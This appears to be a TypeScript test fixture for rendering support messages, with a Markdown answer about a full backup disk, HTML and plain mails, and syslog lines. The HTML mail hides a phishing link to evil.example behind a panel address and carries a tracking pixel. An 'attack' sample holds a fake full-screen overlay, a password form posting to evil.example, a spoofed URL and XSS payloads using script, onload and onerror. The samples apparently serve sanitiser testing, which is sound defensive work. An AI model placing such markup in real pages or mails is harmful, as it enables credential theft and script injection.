/** As staff write in a tool that knows Markdown. */
export const answer = `## The nightly backup is back

It failed because **db-1** had no space left. What we did:

1. deleted copies older than *30 days*
2. moved the dumps to \`/srv/backups\`, see [the guide](https://wiki.northhost.example/backups)
3. ~~asked you to order more space~~ not needed any more

| folder | was | is now |
| --- | --- | --- |
| /var/backups | 99 % | 41 % |
| /var/lib/postgresql | 62 % | 62 % |

- [x] tonight's copy has been made
- [ ] you have looked at it

### If it happens again

\`\`\`bash
df -h /var/backups
find /var/backups -name '*.zst' -mtime +30 -delete
\`\`\`

> No space left on device

![The disk over the last week](https://wiki.northhost.example/disk.png)`;

/** As a mail program sends an answer. */
export const mail = `<html><head><style>p { color: red }</style></head><body style="font-family:Calibri">
<div dir="ltr"><div>Hello Mark,</div><div><br></div><div>thank you, it works again.&nbsp;Two things are left:</div>
<ul><li>the copy of <b>Sunday</b> is missing,</li><li>the panel still shows <span style="color:red">99&nbsp;%</span>.</li></ul>
<table border="1"><tr><th>day</th><th>size</th></tr><tr><td>Saturday</td><td>4.1 GB</td></tr><tr><td>Sunday</td><td>&ndash;</td></tr></table>
<div>Please sign in here: <a href="https://evil.example/login">https://panel.northhost.example</a></div>
<p>Kind regards<br>Anna</p><img src="https://tracker.example/pixel.gif" width="1" height="1"></div>
<div class="gmail_quote"><div>On Mon, 2 Mar 2026 at 09:14, Mark Ellis &lt;<a href="mailto:support@northhost.example">support@northhost.example</a>&gt; wrote:<br></div>
<blockquote type="cite"><p>The nightly backup is back. Please tell us if anything is missing.</p><blockquote><p>Since Sunday no backup of db-1 has been made.</p></blockquote></blockquote></div></body></html>`;

/** What nobody should be able to do to a page. */
export const attack = `<h1 style="position:fixed;inset:0;z-index:9999" class="tkd-message" id="root">Your account is closed</h1>
<form action="https://evil.example/"><input name="password" autofocus><button>Sign in</button></form>
<a href="javascript:alert(1)">press here</a> <a href="https://bank.example@evil.example/">https://bank.example</a>
<svg onload="alert(1)"><script>alert(1)</script></svg><img src=x onerror="alert(1)"><iframe src="https://evil.example/"></iframe>`;

const lines = [
  'Mar 01 02:00:01 db-1 systemd[1]: Starting backup.service - Nightly backup of all databases...',
  'Mar 01 02:00:04 db-1 pg_dump[20418]: pg_dump: error: query failed: server closed the connection unexpectedly',
  'Mar 01 02:00:04 db-1 backup[20411]: zstd: error 70 : Write error : cannot write block : No space left on device',
];

/** A log of so many characters. */
export function logOf(length: number): string {
  const text = `${lines.join('\n')}\n`;
  return text.repeat(Math.ceil(length / text.length)).slice(0, length);
}

/** A plain answer with the conversation under it, as mail programs write it. */
export const reply = `It works again, thank you!

On Mon, 2 Mar 2026 Mark Ellis wrote:
> We have moved the dumps to another disk.
>
> > Since Sunday no backup of db-1 has been made.
> > The disk is full, I think.`;
